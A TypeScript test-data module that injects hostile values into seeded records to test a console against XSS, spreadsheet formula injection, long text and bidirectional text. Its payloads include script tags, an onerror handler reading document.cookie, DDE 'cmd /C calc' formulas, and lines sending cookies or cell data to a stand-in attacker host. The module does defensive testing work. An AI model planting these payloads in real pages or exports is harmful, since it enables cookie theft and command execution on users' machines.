import type { SeedSource } from './seed-source'

// Awkward and hostile values that seeded records carry, so the console is always tested against
// markup injection, spreadsheet formulas, extreme lengths, bidirectional text and empty fields.

export const HOSTILE_KINDS = [
  'script-tag',
  'html-markup',
  'formula-equals',
  'formula-plus',
  'formula-minus',
  'formula-at',
  'long-300',
  'right-to-left',
  'emoji',
  'empty-optional',
] as const

export type HostileKind = (typeof HOSTILE_KINDS)[number]

export const LONG_TEXT_LENGTH = 300

const RIGHT_TO_LEFT_OVERRIDE = '\u202E'
const POP_DIRECTIONAL_FORMATTING = '\u202C'

/**
 * Which hostile kind, if any, record `index` of a collection carries. The first records of every
 * collection (up to ~240) hold each kind once at fixed, evenly spread places, so even the small
 * profile has them all; beyond that about 0.5% of records are hostile, chosen by the seed.
 */
export function hostileKindAt(seed: SeedSource, collection: string, index: number, size: number): HostileKind | null {
  const kinds = HOSTILE_KINDS.length
  const spacing = Math.max(1, Math.floor(Math.min(size, 240) / kinds))
  const slot = Math.floor(index / spacing)
  if (slot < kinds && index % spacing === spacing >> 1) return HOSTILE_KINDS[slot] ?? null
  if (index < spacing * kinds) return null
  const roll = seed.hash(collection, 'hostile', index)
  if (roll % 200 !== 0) return null
  return HOSTILE_KINDS[(roll >>> 8) % kinds] ?? null
}

/** Pads (or cuts) a text to exactly 300 UTF-16 code units, keeping its beginning readable. */
export function toLongText(text: string): string {
  const filler = ' — Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt'
  let out = text
  while (out.length < LONG_TEXT_LENGTH) out += filler
  return out.slice(0, LONG_TEXT_LENGTH)
}

/**
 * A display text (a name, title or label) of the given hostile kind, built around a plain one.
 * `empty-optional` keeps the plain text: for that kind the record's optional fields are emptied.
 */
export function hostileText(kind: HostileKind, plain: string): string {
  switch (kind) {
    case 'script-tag':
      return `<script>alert("${plain}")</script>`
    case 'html-markup':
      return `<img src=x onerror="alert(document.cookie)"><b>${plain}</b>`
    case 'formula-equals':
      return `=HYPERLINK("https://attacker.example/?leak="&A1,"${plain}")`
    case 'formula-plus':
      return `+${plain}+cmd|' /C calc'!A0`
    case 'formula-minus':
      return `-2+3+cmd|' /C calc'!A0 ${plain}`
    case 'formula-at':
      return `@SUM(1+1)*cmd|' /C calc'!A0 ${plain}`
    case 'long-300':
      return toLongText(plain)
    case 'right-to-left':
      return `שרה כהן ${RIGHT_TO_LEFT_OVERRIDE}${plain}${POP_DIRECTIONAL_FORMATTING} محمد`
    case 'emoji':
      return `${plain} 🦄👩🏽‍💻🇺🇦`
    case 'empty-optional':
      return plain
  }
}

/** A value for free-text fields inside recorded activity (typed values, element texts, URLs). */
export function hostileFieldValue(kind: HostileKind, plain: string): string {
  if (kind === 'script-tag') return `"><script>fetch("https://attacker.example/?c="+document.cookie)</script>`
  if (kind === 'html-markup') return `<a href="javascript:alert(1)">${plain}</a>`
  return hostileText(kind, plain)
}

/** True when a text would be read as a formula by a spreadsheet. */
export function startsLikeFormula(text: string): boolean {
  return /^[=+\-@]/.test(text)
}
